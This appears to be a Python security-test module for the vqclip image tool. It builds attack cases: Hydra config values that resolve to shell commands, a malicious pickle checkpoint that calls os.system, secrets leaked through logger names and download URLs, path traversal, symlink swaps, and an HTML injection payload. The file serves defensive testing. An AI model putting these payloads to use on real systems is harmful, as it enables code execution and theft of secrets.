"""The attacks that before.py tries: each makes what a stranger sends, and has the user do something with it."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from functools import partial
from typing import TYPE_CHECKING

import torch
from PIL import Image

if TYPE_CHECKING:
    from before import Case

SMALL = ["size=[32,32]", "steps=4", "snapshot_every=2", "augmentations.crops.count=2", "callbacks=none"]
#: Where a shell is planted: the group's value beside it, and its key.
GROUPS = {
    **{name: {} for name in ("optimizer", "init", "augmentations", "latent", "noise")},
    "callbacks": {"progress": {"_target_": "vqclip.callbacks.Progress"}},
    "loss.terms": {"mine": {"_target_": "vqclip.loss.Objective", "weight": 1}},
    "logger": {"csv": {"_target_": "pytorch_lightning.loggers.CSVLogger", "save_dir": "."}},
    "trainer": {},
}


def shell(groups: list[str], tool: str, case: Case) -> None:
    """A value that Hydra makes a shell of, where it is resolved once more."""
    run = f"${{oc.create:{{_target_: torch.utils.collect_env.run, command: 'touch {case.folder}/ran'}}}}"

    def change(config: dict) -> None:
        for name in groups:
            given = json.loads(json.dumps(GROUPS[name]))
            config.update({name: given} if given and name != "loss.terms" else {})
            config["loss"].update({"terms": given} if name == "loss.terms" else {})
            next(iter(given.values()), config.get(name, {}))["profiler" if name == "trainer" else "extra"] = run

    case.use(tool, change)


def record(value: dict, tool: str, case: Case) -> None:
    """Other values in a record; OUTSIDE, SITE and BESIDE (outside as seen from the package) stand for places."""
    beside = os.path.relpath(case.outside, case.tree.path / "vqclip")
    text = json.dumps(value).replace("OUTSIDE", str(case.outside)).replace("SITE", case.site).replace("BESIDE", beside)

    def change(config: dict) -> None:
        for key, own in json.loads(text).items():
            group, _, name = key.rpartition(".")
            (config["checkpoints"]["generator"] if "." in group else config.get(group, config))[name] = own

    case.use(tool, change)


def users_own(words: list[str], case: Case) -> None:
    """A secret of the user's own config; what the csv logger is told to write lies where nobody looks."""
    words = [word.replace("SITE", case.site).replace("ELSEWHERE", str(case.folder / "home")) for word in words]
    case.vqclip("a fox", *SMALL, "init=sine", "logger=wandb", *words, "hydra.run.dir=run")


def other_picture(case: Case) -> None:
    """The picture that a run began with is another one by now."""
    private = case.outside / "private.png"
    case.vqclip("a fox", *SMALL, "init=image", f"init.path={private}", "logger=none", "hydra.run.dir=run")
    Image.new("RGB", (32, 32), "#654321").save(private)
    case.vqclip("rerun", case.run)


def link(name: str, tool: str, case: Case) -> None:
    """A file or folder of the run lies outside, with others in it, and a symbolic link in its place."""
    report = case.copy(dict) / "run.json"
    if name == "vqclip.log":  # where a run that fails says why
        weights = json.loads(report.read_text())["weights"]["generator"]
        report.write_text(report.read_text().replace(weights, weights[::-1]))
    path = case.run / name
    there = case.outside / f"there{path.suffix}"
    if name.endswith(("timelapse.mp4", "best.png")):
        there = case.outside / "private.png"
        path.unlink(missing_ok=True)
    elif path.exists():
        shutil.move(path, there)
    elif name == "wandb":
        there.mkdir()
    else:
        there.write_text("mine")
    if there.is_dir():
        (there / "000999.png").write_text("mine")
        (there / ".profile").write_text("mine")
    path.symlink_to(there)
    words = {"resume": [f"resume={case.run}", "steps=6", *(["logger=wandb"] if name == "wandb" else [])]}
    case.vqclip(*words.get(tool, [tool, case.run, *(["--frames", "3"] if tool == "interpolate" else [])]))


def page(folder: str, prompt: str, case: Case) -> None:
    """The page of a run, in a browser."""
    from playwright.sync_api import sync_playwright

    case.run = case.here / folder / "0"
    case.copy(dict)
    report = (case.run / "run.json").read_text()
    (case.run / "run.json").write_text(report.replace(json.dumps("a fox"), json.dumps(prompt)))
    case.vqclip("compare", case.here / folder)
    with sync_playwright() as play, play.chromium.launch(executable_path=shutil.which("chromium")) as browser:
        shown = browser.new_page()
        shown.goto((case.here / folder / "compare.html").as_uri())
        shown.wait_for_timeout(500)
        case.noticed += ["its script ran"] if shown.title() == "ran" else []
        case.noticed += [] if shown.locator("figure").count() else ["no picture is shown"]
        without = not shown.locator("meta[http-equiv=Content-Security-Policy]").count()
        case.noticed += ["no policy in the page"] if without and prompt == "a fox" else []


def pickle(name: str, zipped: bool, case: Case) -> None:
    """A checkpoint that makes a shell when it is read the ordinary way."""

    class Call:
        def __reduce__(self):
            return os.system, (f"touch {case.folder}/ran",)

    path = case.copy(dict, status="interrupted") / name
    torch.save({"state_dict": {"x": Call()}}, path, _use_new_zipfile_serialization=zipped)
    other = ["a fox", *SMALL, "init=sine", f"checkpoints.generator.path={path}"]
    case.vqclip(*([f"resume={case.run}"] if name == "last.ckpt" else other))


CSV, W_AND_B = "pytorch_lightning.loggers.CSVLogger", "vqclip.loggers.wandb_logger"
OWN_LOGGER = f"+logger.csv={{_target_: {CSV}, save_dir: ELSEWHERE, prefix: '${{oc.env:SECRET}}'}}"
SECRET_NAME = {"logger": {"csv": {"_target_": CSV, "save_dir": ".", "name": "${oc.env:SECRET}"}}}
OUTSIDE_LOGGER = {"logger": {"csv": {"_target_": CSV, "save_dir": "OUTSIDE/there"}}}
OUTSIDE_W_AND_B = {"logger": {"wandb": {"_target_": W_AND_B, "save_dir": "OUTSIDE", "config": {}, "mode": "offline"}}}
CHECKPOINTER = {"x": {"_target_": "pytorch_lightning.callbacks.ModelCheckpoint", "dirpath": "OUTSIDE/there"}}
IMAGE = {"_target_": "vqclip.init.Image", "path": "OUTSIDE/private.png", "fit": "cut", "mask": None, "feather": 0}
RUN = {"_target_": "subprocess.run", "args": ["touch", "OUTSIDE/ran"]}
PATH, BESIDE = "checkpoints.generator.path", "BESIDE/private.safetensors"
FILE, PICTURE = {"file": "OUTSIDE/private.txt"}, {"image": "OUTSIDE/private.png"}


def card(name: str) -> dict:
    return {"checkpoints.generator": {"name": name, "urls": ["SITE/weights.ckpt"], "file": None, "path": None}}


ATTACKS: dict[str, Callable[[Case], None]] = {
    **{
        f"shell in {group}, {tool}": partial(shell, [group], tool)
        for tool in ("a PNG", "rerun", "resume", "interpolate")
        for group in GROUPS
    },
    **{f"shells in all groups, {tool}": partial(shell, list(GROUPS), tool) for tool in ("evaluate", "compare")},
    "class of others, a PNG": partial(record, {"noise": RUN}, "a PNG"),
    "class of others that a record trusts, a PNG": partial(record, {"noise": RUN, "trust": ["subprocess"]}, "a PNG"),
    **{f"secret in a record, {tool}": partial(record, SECRET_NAME, tool) for tool in ("a PNG", "resume")},
    "secret in one's own logger": partial(users_own, [OWN_LOGGER]),
    "secret in a link of one's own": partial(users_own, ["++checkpoints.generator.urls=['SITE/${oc.env:SECRET}']"]),
    **{f"path of a logger, {tool}": partial(record, OUTSIDE_LOGGER, tool) for tool in ("a PNG", "resume")},
    "path of W&B, a PNG": partial(record, OUTSIDE_W_AND_B, "a PNG"),
    "path of a callback, a PNG": partial(record, {"callbacks": CHECKPOINTER}, "a PNG"),
    "output_dir, a PNG": partial(record, {"paths": {"output_dir": "OUTSIDE/there"}}, "a PNG"),
    "card with an address of its own, a PNG": partial(record, card("theirs"), "a PNG"),
    "card under an official name with a sha256, a PNG": partial(record, card("imagenet_f16_16384"), "a PNG"),
    "card under an official name without one, a PNG": partial(record, card("imagenet_f16_1024"), "a PNG"),
    "card whose name leads out of the cache, a PNG": partial(record, card("../outside/there"), "a PNG"),
    "prompts from a file, a PNG": partial(record, {"prompts.include": [FILE]}, "a PNG"),
    "prompts from a file beside a text, a PNG": partial(record, {"prompts.include": ["a fox", FILE]}, "a PNG"),
    "prompts from a file alone, a PNG": partial(record, {"prompts.include": FILE}, "a PNG"),
    "picture as the start, a PNG": partial(record, {"init": IMAGE}, "a PNG"),
    "picture as a prompt, a PNG": partial(record, {"prompts.include": [PICTURE]}, "a PNG"),
    "picture that took another's place, rerun": other_picture,
    "weights of another file, a PNG": partial(record, {PATH: "OUTSIDE/private.safetensors"}, "a PNG"),
    "weights by a way out of the package, a PNG": partial(record, {PATH: f"pkg://vqclip/{BESIDE}"}, "a PNG"),
    **{
        f"link {name}, resume": partial(link, name, "resume")
        for name in (
            *("picture-00/steps", "picture-00/crops", "picture-00", "picture-00/final.png", "picture-00/.final.png"),
            *("vqclip.log", ".lock", "metrics.csv", "last.ckpt", ".last.ckpt", "wandb"),
        )
    },
    **{f"link {n}, interpolate": partial(link, n, "interpolate") for n in ("interpolation.mp4", ".interpolation.mp4")},
    **{
        f"link {name}, compare": partial(link, name, "compare")
        for name in ("compare.html", "picture-00/timelapse.mp4", "picture-00/best.png")
    },
    "page, {{data}} in a folder's name": partial(page, "{{data}}", "<img src=x onerror=document.title='ran'>"),
    "page, <!-- <script> in a prompt": partial(page, "theirs", "<!-- <script>"),
    "page, its policy": partial(page, "theirs", "a fox"),
    "pickle of weights, zip": partial(pickle, "theirs.ckpt", True),
    "pickle of weights, legacy": partial(pickle, "theirs.ckpt", False),
    "pickle last.ckpt, resume": partial(pickle, "last.ckpt", True),
}
